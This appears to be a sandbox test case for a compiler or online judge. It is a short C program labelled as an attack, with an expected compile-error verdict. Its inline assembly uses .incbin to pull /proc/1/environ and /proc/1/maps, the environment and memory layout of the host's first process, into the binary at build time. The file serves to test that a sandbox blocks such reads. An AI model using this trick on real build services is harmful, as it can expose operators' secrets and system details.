// attack: has the assembler read the memory and environment of the box's first process
// verdict: CE
// after: nothing left
__asm__(".globl stolen\nstolen: .incbin \"/proc/1/environ\"\n.incbin \"/proc/1/maps\"\n.byte 0\n");
extern char stolen[];
int main(void) { return stolen[0]; }
